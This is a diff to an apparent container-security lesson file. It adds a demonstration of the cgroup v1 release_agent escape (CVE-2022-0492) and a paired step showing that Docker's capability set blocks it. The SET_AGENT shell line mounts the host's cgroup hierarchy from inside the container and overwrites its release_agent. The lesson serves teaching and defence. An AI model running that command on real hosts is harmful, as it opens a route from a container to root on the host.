@@ -1,12 +1,12 @@
 import { defineLesson, type Check, type Step } from '../../src/engine/lesson.js';
-import { BOX, boxRun, hostToolInBoxMounts, taughtShell } from '../../src/box/box.js';
+import { BOX, boxPayload, boxRun, hostToolInBoxMounts, NOT_DOCKER_CAPS, taughtShell } from '../../src/box/box.js';
 import { cgroupDriver, CONTROLLERS, v2Driver, type CgroupDriver, type Controller } from '../../src/box/cgroup.js';
 import { cmd } from '../../src/shell/cmd.js';
-import { mkdirP } from '../../src/shell/coreutils.js';
+import { mkdirP, writeFile } from '../../src/shell/coreutils.js';
 import { inCgroups, writeCgroupFile } from '../../src/shell/cgroup.js';
 import { mountFs } from '../../src/shell/mount.js';
 import { nsenter } from '../../src/shell/nsenter.js';
-import { withParentDeathSignal } from '../../src/shell/setpriv.js';
+import { withNoNewPrivs, withParentDeathSignal } from '../../src/shell/setpriv.js';
 import { unshare } from '../../src/shell/unshare.js';
 import * as diagrams from './diagrams.js';
 
@@ -36,6 +36,28 @@ export default defineLesson((host) => {
   const ALLOWED = ['c 1:3 rwm', 'c 1:5 rwm', 'c 1:7 rwm', 'c 1:8 rwm', 'c 1:9 rwm', 'c 5:0 rwm', 'c 5:2 rwm', 'c 136:* rwm'];
   /** The host kernel's log (/dev/kmsg, c 1:11), read through a node the box made itself. */
   const readKmsg = boxRun('/bin/head', '-n', '1', '/root/kmsg');
+
+  // cgroup v1's release_agent (the CVE-2022-0492 route): a hierarchy no step of the lesson uses,
+  // in which the box's cgroup namespace (made in lesson 2, in boxlab's own group) is the root.
+  const agentHierarchy = ['freezer', 'perf_event', 'net_cls', 'cpuset', 'hugetlb', 'rdma', 'misc', 'blkio']
+    .map((c) => layout.v1.find((h) => h.controllers.includes(c)))
+    .find((h) => h !== undefined);
+  const AGENT_OPTIONS = agentHierarchy?.controllers.join(',') ?? 'freezer';
+  const RELEASE_AGENT = `${agentHierarchy?.mountPoint ?? '/sys/fs/cgroup/freezer'}/release_agent`;
+  /** What the box writes: the host path of a program in the box. No such file is ever made. */
+  const AGENT = '${ROOTFS}/escape.sh';
+  /** In the box: mount the host's hierarchy, write its release_agent, unmount. */
+  const SET_AGENT = 'mkdir -p /tmp/cgroup && mount -t cgroup -o "$1" cgroup /tmp/cgroup && echo "$2" > /tmp/cgroup/release_agent; s=$?; umount /tmp/cgroup 2>/dev/null; exit $s';
+  const setAgent = (drop?: string[]) => boxPayload(drop ? { drop, wrap: withNoNewPrivs } : {}, '/bin/sh', '-c', SET_AGENT, 'sh', AGENT_OPTIONS, AGENT);
+  const agentRequires: Step['requires'] = [
+    { path: RELEASE_AGENT, reason: 'no cgroup v1 hierarchy here: cgroup v2 has no release_agent (it reports an empty group in cgroup.events)' },
+    {
+      command: cmd('grep', '-qE', `^[0-9]+:${AGENT_OPTIONS}:/$`, `/proc/${BOX}/cgroup`),
+      reason: `the box's cgroup namespace is below the root of the ${AGENT_OPTIONS} hierarchy, where no release_agent is`,
+    },
+  ];
+  /** The host's release_agent holds what it held before the lesson (grep -x: an empty one too). */
+  const agentAsBefore = { status: cmd('grep', '-qxF', '${RELEASE_AGENT_WAS}', RELEASE_AGENT) };
 
   const offered: Check[] = CONTROLLERS.map((c) =>
     cg.kind === 'v1'
@@ -100,6 +122,32 @@ export default defineLesson((host) => {
       checks: [
         { title: 'from the host: the full path', fact: { file: '/proc/${CGNS}/cgroup', grep: MEMORY_LINE }, contains: `/${BOX_GROUP}` },
         { title: 'from inside: /, nothing of the host above it', fact: { out: nsenter({ target: '${CGNS}', ns: ['cgroup'] }, 'cat', '/proc/${CGNS}/cgroup') }, lacks: 'boxlab' },
+      ],
+    },
+    {
+      id: 'release-agent',
+      title: "Break it: root in the box mounts the host's cgroup v1 hierarchy and sets its release_agent",
+      feature: { name: 'release_agent (cgroup v1), CVE-2022-0492', syscalls: ['mount(2) of cgroup', 'write(2) to release_agent'], man: ['cgroups(7)', 'cgroup_namespaces(7)'] },
+      breakIt: { demo: 'release-agent', role: 'attack' },
+      requires: agentRequires,
+      creates: [{ restore: RELEASE_AGENT, saved: 'RELEASE_AGENT_WAS' }],
+      actions: [{ run: setAgent() }],
+      checks: [{ title: `on the host, ${RELEASE_AGENT} holds the box's program`, fact: { file: RELEASE_AGENT }, equals: AGENT }],
+    },
+    {
+      id: 'release-agent-denied',
+      title: "With Docker's 14 capabilities (no CAP_SYS_ADMIN), the same attack fails",
+      feature: { name: 'CAP_SYS_ADMIN', syscalls: ['mount(2) refused: EPERM'], man: ['capabilities(7)', 'cgroups(7)'] },
+      breakIt: { demo: 'release-agent', role: 'defence' },
+      requires: agentRequires,
+      actions: [
+        // The host first puts back what the attack changed.
+        { run: writeFile(RELEASE_AGENT, '${RELEASE_AGENT_WAS}') },
+        { run: setAgent(NOT_DOCKER_CAPS), mayFail: true },
+      ],
+      checks: [
+        { title: "root in the box, with Docker's 14 and no_new_privs: refused", fact: { status: setAgent(NOT_DOCKER_CAPS) }, differs: '0' },
+        { title: `the host's release_agent is as before the lesson (grep -x exits 0)`, fact: agentAsBefore, equals: '0' },
       ],
     },
     {
